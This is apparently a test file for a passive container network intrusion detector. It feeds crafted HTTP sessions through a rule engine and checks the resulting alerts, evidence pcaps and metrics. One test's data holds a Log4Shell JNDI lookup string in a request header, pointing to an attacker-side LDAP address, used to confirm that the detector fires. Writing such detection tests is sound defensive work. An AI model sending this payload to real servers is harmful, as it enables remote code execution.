// WatchPipeline offline: crafted Ethernet frames packed into a real CaptureBatch (as
// PassiveCapture hands them over), through the real engine with rules/lateral.rules, into EVE
// lines, evidence pcaps and metrics. The live counterpart is watch.test.ts.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { CaptureBatch } from '../../src/capture/captureBatch';
import { TcpFlag } from '../../src/decode/packet';
import { EvidenceRecorder } from '../../src/output/evidenceRecorder';
import { LateralMetrics } from '../../src/output/metrics';
import { TrafficMap } from '../../src/output/trafficMap';
import type { AlertRecordInput } from '../../src/output/eveAlert';
import { containerMapFromJson } from '../../src/cli/containerMap';
import { defaultRulesFile, loadWatchEngine } from '../../src/cli/watch';
import { WATCH_COUNTER_KINDS, WatchPipeline } from '../../src/cli/watchPipeline';
import { tcp4 } from '../decode/craft';

const ATTACKER = '10.213.9.4';
const WEB = '10.213.9.2';
const layout = {
  name: 't', bridge: 't-br',
  namespaces: { web: { ip: WEB, ip6: 'fd0d:213:9::2' }, db: { ip: '10.213.9.3' }, attacker: { ip: ATTACKER } },
};
const containers = containerMapFromJson(layout, 'layout.json');

/** A whole HTTP exchange client→server:80 as Ethernet frames (handshake, request, response, FIN). */
function httpSession(cport: number, request: string, response = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'): Uint8Array[] {
  const c = { sport: cport, dport: 80 };
  const s = { sport: 80, dport: cport };
  const cs = 1000;
  const ss = 5000;
  const rq = request.length;
  const rs = response.length;
  return [
    tcp4(ATTACKER, WEB, { ...c, seq: cs, flags: TcpFlag.SYN }),
    tcp4(WEB, ATTACKER, { ...s, seq: ss, ack: cs + 1, flags: TcpFlag.SYN | TcpFlag.ACK }),
    tcp4(ATTACKER, WEB, { ...c, seq: cs + 1, ack: ss + 1, flags: TcpFlag.ACK }),
    tcp4(ATTACKER, WEB, { ...c, seq: cs + 1, ack: ss + 1, flags: TcpFlag.ACK | TcpFlag.PSH, payload: request }),
    tcp4(WEB, ATTACKER, { ...s, seq: ss + 1, ack: cs + 1 + rq, flags: TcpFlag.ACK | TcpFlag.PSH, payload: response }),
    tcp4(ATTACKER, WEB, { ...c, seq: cs + 1 + rq, ack: ss + 1 + rs, flags: TcpFlag.ACK | TcpFlag.FIN }),
    tcp4(WEB, ATTACKER, { ...s, seq: ss + 1 + rs, ack: cs + 2 + rq, flags: TcpFlag.ACK | TcpFlag.FIN }),
    tcp4(ATTACKER, WEB, { ...c, seq: cs + 2 + rq, ack: ss + 2 + rs, flags: TcpFlag.ACK }),
  ];
}

const ATTACK = 'GET / HTTP/1.1\r\nHost: web\r\nX-Api-Version: ${jndi:ldap://10.213.9.4/a}\r\n\r\n';
const NORMAL = 'GET /index.html HTTP/1.1\r\nHost: web\r\nUser-Agent: curl/7.88.1\r\n\r\n';

/** Packs frames into the batch the way PassiveCapture does, `perBatch` at a time, one batch object reused. */
function feed(pipeline: WatchPipeline, frames: Uint8Array[], perBatch: number, tsSec = 1_800_000_000): void {
  const batch = new CaptureBatch(1 << 16, perBatch, 1);
  let usec = 0;
  for (let i = 0; i < frames.length; i += perBatch) {
    for (const f of frames.slice(i, i + perBatch)) batch.push(Buffer.from(f), f.length, f.length, tsSec, (usec += 10));
    pipeline.handleBatch(batch);
    batch.clear();
  }
}

interface Rig {
  pipeline: WatchPipeline;
  lines: string[];
  alerts: AlertRecordInput[];
  evidence: EvidenceRecorder;
  dir: string;
  map: TrafficMap;
}

function rig(ruleFiles: string[] = [defaultRulesFile()], configPath?: string): Rig {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lateral-watch-'));
  const { engine } = loadWatchEngine(ruleFiles, configPath);
  const lines: string[] = [];
  const alerts: AlertRecordInput[] = [];
  const evidence = new EvidenceRecorder({ dir, linkType: 1 });
  const map = new TrafficMap();
  const pipeline = new WatchPipeline({
    engine, containers, evidence, map,
    eve: { write: (line: string) => lines.push(line) > 0 },
    onAlert: (a) => alerts.push(a),
  });
  return { pipeline, lines, alerts, evidence, dir, map };
}

const tmpDirs: string[] = [];
function tmpFile(name: string, text: string): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'lateral-watch-'));
  tmpDirs.push(dir);
  const f = path.join(dir, name);
  fs.writeFileSync(f, text);
  return f;
}
test.after(() => {
  for (const d of tmpDirs) fs.rmSync(d, { recursive: true, force: true });
});

test('a Log4Shell request between containers: EVE alert sid 1800040, allowed, container names, evidence pcap with the bytes', async () => {
  const r = rig();
  try {
    feed(r.pipeline, httpSession(40001, ATTACK), 3);
    assert.is(r.alerts.length, 1, JSON.stringify(r.alerts.map((a) => a.sid)));
    assert.is(r.lines.length, 1);
    const eve = JSON.parse(r.lines[0]!) as Record<string, any>;
    assert.is(eve.event_type, 'alert');
    assert.is(eve.alert.signature_id, 1800040);
    assert.is(eve.alert.action, 'allowed');
    assert.is(eve.src_ip, ATTACKER);
    assert.is(eve.dest_ip, WEB);
    assert.equal(eve.src_container, { name: 'attacker', network: 't-br' });
    assert.equal(eve.dest_container, { name: 'web', network: 't-br' });
    assert.is(eve.app_proto, 'http');
    assert.match(eve.evidence.pcap, new RegExp(`^flow-${eve.flow_id}_\\d{8}T\\d{6}\\.\\d{6}Z_sid-1800040\\.pcap$`));
    await r.evidence.flush();
    const file = fs.readFileSync(path.join(r.dir, eve.evidence.pcap));
    assert.is(file.readUInt32LE(0), 0xa1b2c3d4, 'classic pcap, little-endian, microseconds');
    assert.is(file.readUInt32LE(20), 1, 'Ethernet link type');
    assert.ok(file.includes(Buffer.from('${jndi:ldap://')), 'the attack bytes are in the evidence');
    // watch uses Suricata's IDS timing: the request is parsed once the server acknowledges it
    // (its response, frame 5) and judged on the client's next packet (the FIN, frame 6), so
    // the evidence holds frames 1-6 and the alerting packet is the newest in the file.
    let records = 0;
    let last = -1;
    let requestAt = -1;
    for (let at = 24; at < file.length; records++) {
      last = at;
      if (file.subarray(at + 16, at + 16 + file.readUInt32LE(at + 8)).includes(Buffer.from('X-Api-Version'))) requestAt = records;
      at += 16 + file.readUInt32LE(at + 8);
    }
    assert.is(records, 6);
    assert.is(requestAt, 3, 'the request is the 4th frame');
    const lastFrame = file.subarray(last + 16);
    assert.is(lastFrame[14 + 20 + 13]! & TcpFlag.FIN, TcpFlag.FIN, 'the alerting packet is the client FIN');
    // The map keeps the alert with the names.
    const snap = r.map.snapshot(Date.now());
    assert.is(snap.alerts[0]!.srcContainer, 'attacker');
    assert.is(snap.alerts[0]!.action, 'allowed');
  } finally {
    fs.rmSync(r.dir, { recursive: true, force: true });
  }
});

test('normal traffic raises no alert and writes no evidence', async () => {
  const r = rig();
  try {
    feed(r.pipeline, [...httpSession(40002, NORMAL), ...httpSession(40003, NORMAL)], 5);
    assert.is(r.alerts.length, 0);
    assert.is(r.lines.length, 0);
    assert.is(r.pipeline.packets, 16);
    assert.is(r.pipeline.inspector.flows.stats.created, 2);
    await r.evidence.flush();
    assert.equal(fs.readdirSync(r.dir), []);
    assert.is(r.evidence.stats().packetsRecorded, 16, 'every packet of a flow is kept in its ring');
  } finally {
    fs.rmSync(r.dir, { recursive: true, force: true });
  }
});

test('reject and drop rules alert as "allowed": a passive copy never blocks', () => {
  const rules = tmpFile('r.rules', [
    'reject tcp any any -> any 80 (msg:"reject evil"; flow:established,to_server; content:"evil"; sid:9000001; rev:1;)',
    'drop tcp any any -> any 80 (msg:"drop evil"; flow:established,to_server; content:"evil"; sid:9000002; rev:1;)',
  ].join('\n'));
  const r = rig([rules]);
  try {
    feed(r.pipeline, httpSession(40004, 'GET /evil HTTP/1.1\r\nHost: web\r\n\r\n'), 8);
    assert.equal(r.alerts.map((a) => a.sid).sort(), [9000001, 9000002]);
    for (const line of r.lines) assert.is((JSON.parse(line) as { alert: { action: string } }).alert.action, 'allowed');
    // The server's answer was still inspected: the flow was not dropped.
    assert.is(r.pipeline.inspector.flows.stats.created, 1);
    assert.is(r.pipeline.packets, 8);
  } finally {
    fs.rmSync(r.dir, { recursive: true, force: true });
  }
});

test('EXTERNAL_NET is "any" by default (east-west), but the YAML can set it', () => {
  const rules = tmpFile('r.rules', 'alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"ext to home"; flow:established,to_server; content:"index"; sid:9000010; rev:1;)\n');
  const byDefault = rig([rules]);
  feed(byDefault.pipeline, httpSession(40005, NORMAL), 8);
  assert.equal(byDefault.alerts.map((a) => a.sid), [9000010]);
  const yaml = tmpFile('lateral.yaml', '%YAML 1.1\n---\nvars:\n  address-groups:\n    HOME_NET: "[10.0.0.0/8]"\n    EXTERNAL_NET: "!$HOME_NET"\n');
  const perimeter = rig([rules], yaml);
  feed(perimeter.pipeline, httpSession(40005, NORMAL), 8);
  assert.is(perimeter.alerts.length, 0);
  // A YAML that sets only HOME_NET keeps watch's EXTERNAL_NET any.
  const homeOnly = rig([rules], tmpFile('home.yaml', 'vars:\n  address-groups:\n    HOME_NET: "[10.213.0.0/16]"\n'));
  feed(homeOnly.pipeline, httpSession(40005, NORMAL), 8);
  assert.is(homeOnly.alerts.length, 1);
  for (const r of [byDefault, perimeter, homeOnly]) fs.rmSync(r.dir, { recursive: true, force: true });
});

test('metrics: packets, container-pair traffic, flows and alerts reach LateralMetrics through deltas', async () => {
  const r = rig();
  try {
    const map = new TrafficMap();
    const metrics = new LateralMetrics({ ...WATCH_COUNTER_KINDS, map, defaultMetrics: false });
    feed(r.pipeline, [...httpSession(40006, NORMAL), ...httpSession(40007, ATTACK)], 4);
    metrics.applyDelta(0, r.pipeline.takeDelta());
    const text = await metrics.metricsText();
    assert.match(text, /lateral_packets_total\{verdict="accept"\} 16\n/);
    assert.match(text, /lateral_alerts_total\{sid="1800040",action="allowed",severity="1"\} 1\n/);
    assert.match(text, /lateral_flows_created_total 2\n/);
    const pair = /lateral_pair_packets_total\{src_container="attacker",dest_container="web",app_proto="([a-z]*)"\} (\d+)/g;
    let sum = 0;
    for (const m of text.matchAll(pair)) sum += Number(m[2]);
    assert.is(sum, 16, text);
    assert.match(text, /lateral_pair_alerts_total\{src_container="attacker",dest_container="web",app_proto="http",action="allowed"\} 1\n/);
    // A second delta carries only what happened since: nothing.
    metrics.applyDelta(0, r.pipeline.takeDelta());
    assert.match(await metrics.metricsText(), /lateral_packets_total\{verdict="accept"\} 16\n/);
    const edge = map.snapshot(Date.now()).edges.find((e) => e.src === 'attacker' && e.dst === 'web');
    assert.ok(edge && edge.packets === 16 && edge.flows === 2);
    // Ending the flows (shutdown) releases their evidence rings and counts them.
    r.pipeline.flush();
    assert.is(r.evidence.stats().flowsTracked, 0);
    metrics.applyDelta(0, r.pipeline.takeDelta());
    assert.match(await metrics.metricsText(), /lateral_flows_evicted_total\{reason="closed"\} 2\n/);
  } finally {
    fs.rmSync(r.dir, { recursive: true, force: true });
  }
});

test('frames without IP and truncated garbage are counted, not thrown', () => {
  const r = rig();
  const arp = Uint8Array.from([...new Array(12).fill(2), 0x08, 0x06, ...new Array(28).fill(0)]);
  const runt = Uint8Array.from([1, 2, 3]);
  const cutIp = tcp4(ATTACKER, WEB, { sport: 1, dport: 80, flags: TcpFlag.SYN }).subarray(0, 30);
  feed(r.pipeline, [arp, runt, cutIp], 3);
  assert.is(r.pipeline.packets, 3);
  assert.ok(r.pipeline.nonIp >= 2);
  assert.is(r.alerts.length, 0);
  fs.rmSync(r.dir, { recursive: true, force: true });
});

test.run();
